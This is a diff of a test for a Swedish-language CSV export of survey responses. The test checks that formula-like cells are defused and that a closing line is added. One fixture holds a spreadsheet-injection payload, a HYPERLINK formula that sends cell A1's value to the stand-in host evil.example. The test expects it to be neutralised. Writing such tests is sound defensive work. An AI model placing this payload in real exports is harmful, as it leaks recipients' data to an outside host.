@@ -131,7 +131,7 @@ describe('raw responses CSV', () => {
     ['Annan', 'Ja', '\r=1+1\r\nrad två; "citat"', 7],
   ];
 
-  it('has the header block, the column names, then one defused record per response in order', async () => {
+  it('has the header block, the column names, one defused record per response in order, then the closing line', async () => {
     const bytes = await buffer(
       csvResponsesStream({ header: SV_HEADER, dialect: 'excel-sv', responses: { columns, rows: slowly(rows) } }),
     );
@@ -145,7 +145,8 @@ describe('raw responses CSV', () => {
       [''],
       ['Roll', 'F1', "'=Fråga 7", 'Antal'],
     ]);
-    expect(records.slice(7)).toEqual([
+    expect(records.at(-1)).toEqual([`Slut på filen: ${rows.length} rader.`]);
+    expect(records.slice(7, -2)).toEqual([
       ['Socialsekreterare', 'Ja', '\'=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")', '3'],
       ['Annan', 'Nej', "'+46 70 123 45 67", '-2'],
       ['Biståndsbedömare', 'Vet ej', "'-tråkigt", ''],
